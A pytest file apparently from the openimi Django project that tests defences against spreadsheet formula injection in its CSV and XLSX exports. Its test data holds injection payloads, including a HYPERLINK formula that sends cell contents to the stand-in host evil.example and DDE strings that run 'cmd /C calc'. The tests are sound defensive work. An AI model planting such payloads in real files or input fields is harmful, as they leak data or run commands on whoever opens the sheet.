"""Issue 16, item 5: no CSV or XLSX file openimi writes carries a cell a spreadsheet would run
as a formula (the data-subject export, the monitoring figures, the rollout table)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from openimi.common.spreadsheets import csv_cell, csv_row, is_formula_like, xlsx_append
from openimi.exchange.models import PersonalData
from openimi.exchange.workflow import State
from openimi.onboarding import importers, selectors, services

pytestmark = pytest.mark.django_db

# What a person of another authority could type as a provider's name, department or address.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+31 20 123 4567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\uff1d1+1",
]
PLAIN = ["Bouwbedrijf Jansen B.V.", "Ελληνική Εταιρεία", "a=b", "", "O'Neill"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, 12, 3.5, None])
def test_other_cells_stay_as_they_are(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == value
    assert csv_row([value, "=x"]) == [value, "'=x"]


def test_xlsx_keeps_a_formula_like_text_as_text_and_exactly_as_typed():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_append(sheet, ["header", 7])
    xlsx_append(sheet, [*FORMULAS, *PLAIN, 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(min_row=2))[0]
    assert [cell.data_type for cell in row[: len(FORMULAS)]] == ["s"] * len(FORMULAS)
    # XML holds no NUL: dropped, and what remains is still kept as text.
    assert [cell.value for cell in row[: len(FORMULAS)]] == [f.replace("\0", "") for f in FORMULAS]
    assert all(cell.quotePrefix for cell in row[: len(FORMULAS)])
    assert [cell.value for cell in row[len(FORMULAS) :]] == ["Bouwbedrijf Jansen B.V.",
        "Ελληνική Εταιρεία", "a=b", None, "O'Neill", 12]  # fmt: skip


def test_the_data_subject_export_neutralises_what_another_authority_typed(
    client, world, make_request
):
    info_request = make_request(State.ACCEPTED)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    PersonalData.objects.filter(info_request=info_request).update(
        provider_name=formula, email="@evil.example", phone="+31 20 123 4567"
    )
    client.force_login(world["resp_lda"])
    response = client.post(
        reverse("privacy:export"), {"request": [info_request.pk], "format": "csv"}
    )
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["provider_name"] == "'" + formula
    assert row["email"] == "'@evil.example"
    assert row["phone"] == "'+31 20 123 4567"
    cells = [cell for line in csv.reader(io.StringIO(response.content.decode())) for cell in line]
    assert not any(is_formula_like(cell) for cell in cells)


def test_the_rollout_table_export_keeps_formulas_as_text_and_imports_again(lda, tmp_path):
    path = tmp_path / "table.csv"
    path.write_text(
        "Afdeling,Wetten en regels van toepassing,Voor en achternaam,(funct.) Mailbox,Rol(len)\n"
        '"=HYPERLINK(""http://evil.example"")",@SUM(1),-Bram Pauwels,'
        "b.pauwels@oeteldonk.nl,Behandelaar\n",
        encoding="utf-8",
    )
    rows = selectors.rollout_check(
        authority=lda.authority,
        rows=importers.read_table(name=path.name, content=path.read_bytes()),
    )
    services.rollout_import(actor=lda, authority=lda.authority, rows=services.parsed_as_dicts(rows))
    content = selectors.rollout_export(authority=lda.authority)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [cell.data_type for cell in cells[:3]] == ["s", "s", "s"]
    assert [cell.value for cell in cells[:3]] == [
        '=HYPERLINK("http://evil.example")',
        "@SUM(1)",
        "-Bram Pauwels",
    ]
    again = importers.read_table(name="export.xlsx", content=content)
    assert [again[0].department, again[0].laws, again[0].name] == [
        '=HYPERLINK("http://evil.example")',
        "@SUM(1)",
        "-Bram Pauwels",
    ]
